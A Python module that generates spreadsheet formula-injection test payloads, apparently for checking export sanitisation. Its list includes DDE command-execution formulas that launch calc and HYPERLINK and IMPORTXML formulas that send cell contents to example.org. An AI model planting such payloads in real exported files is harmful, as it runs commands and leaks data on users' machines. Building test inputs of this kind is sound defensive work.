"""Texts that a spreadsheet program could take for something else: formulas, numbers, dates, truth values."""

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\u200b=", "\ufeff=", "\u00a0=", "\uff1d", "\uff0b", "\uff0d",
          "\uff20", "'=", "\"=", ";=", ",=", "\u2212"]

CALLS = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
    "cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
]

LOOKS = [
    "0901", "007", "1E5", "12345678901234567890", "2023-04", "2023-04-01", "04/05/2023", "May 22", "22 May 2023",
    "1/2", "5%", "$5", "€5", "(5)", "1,234", "1.234,5", "12:30", "6 pm", "TRUE", "false", "1-2", ".5", "5.", "0x1F",
]


def payloads() -> list[str]:
    """All payloads, at least a hundred of them."""
    texts = [start + call for start in STARTS for call in CALLS] + LOOKS
    assert len(set(texts)) >= 100
    return texts
